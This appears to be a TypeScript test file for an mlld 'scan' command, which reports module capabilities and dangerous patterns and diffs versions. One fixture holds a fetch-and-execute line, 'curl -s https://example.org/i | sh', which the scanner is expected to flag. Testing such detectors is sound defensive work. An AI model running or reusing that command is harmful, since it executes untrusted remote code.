import { existsSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { makeTempDir, runCli, type TempDir } from '@mlld/testing';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { tempFolder } from '../../client/test/fixture/project.ts';
import { distribution, writeDistribution } from '../../client/test/fixture/registry.ts';

let desk: TempDir;

beforeAll(async () => {
  desk = await makeTempDir('mlld-scan-');
  for (const [file, text] of [
    ['old/index.mld', 'run cmd { git status }\n'],
    ['new/index.mld', 'run cmd { git status }\nrun sh { curl -s https://example.org/i | sh }\n'],
    ['new/README.md', '# New\n\nPlain words.\n'],
    ['quiet.mld', 'var @a = 1\n'],
  ] as const) {
    await mkdir(path.dirname(path.join(desk.path, file)), { recursive: true });
    await writeFile(path.join(desk.path, file), text);
  }
});
afterAll(() => desk.remove());

const scan = (...args: string[]) =>
  runCli(['scan', ...args], { cwd: desk.path, env: { HOME: desk.path, MLLD_OFFLINE: '1' } });

test('shows what a module can do and what looks dangerous, and ends with 0', async () => {
  const { code, stdout } = await scan('new');
  expect(code).toBe(0);
  expect(stdout).toContain('network\texample.org\tindex.mld:2:18\n');
  expect(stdout).toContain('high index.mld:2:10 what curl downloads is run by sh [download/run]\n');
  expect(stdout).toMatch(/1 finding in 2 files\n$/);
});

test('--strict ends with 1 on a grave finding and on a new capability', async () => {
  expect((await scan('new', '--strict')).code).toBe(1);
  expect((await scan('old', '--strict')).code).toBe(0);
  expect((await scan('old', '--strict', '--diff', 'quiet.mld')).code).toBe(1);
});

test('--diff --json tells what is new and what is gone', async () => {
  const { stdout } = await scan('new', '--diff', 'old', '--json');
  const { since, added, removed } = JSON.parse(stdout);
  expect(since).toBe('old');
  expect(added.map(({ kind, name }: { kind: string; name: string }) => `${kind} ${name}`)).toEqual([
    'code sh',
    'command curl',
    'command sh',
    'network example.org',
  ]);
  expect(removed).toEqual([]);
});

test('a path that is not there is an error', async () => {
  const { code, stderr } = await scan('missing');
  expect([code, stderr]).toEqual([expect.any(Number), expect.stringContaining('error[FILE_NOT_FOUND]')]);
  expect(code).not.toBe(0);
});

test('scans a module of a registry, and locks nothing', async () => {
  const [cwd, registry] = [tempFolder(), tempFolder()];
  const modules = [
    { ref: '@alice/strings@1.0.0', files: { 'index.mld': 'run cmd { git status }\n' } },
    { ref: '@alice/strings@1.1.0', files: { 'index.mld': 'run cmd { make all }\n' } },
  ];
  writeDistribution(distribution(modules), registry);
  const env = { HOME: cwd, MLLD_DNS: 'off', MLLD_REGISTRY: registry };
  const args = ['scan', '@alice/strings', '--diff', '@alice/strings@1.0.0', '--json'];
  const { stdout } = await runCli(args, { cwd, env });
  const { of, since, added, removed } = JSON.parse(stdout);
  expect([of, since]).toEqual(['@alice/strings@1.1.0', '@alice/strings@1.0.0']);
  expect([added, removed]).toMatchObject([
    [{ kind: 'command', name: 'make' }],
    [{ kind: 'command', name: 'git' }],
  ]);
  expect(existsSync(path.join(cwd, 'mlld-lock.json'))).toBe(false);
});
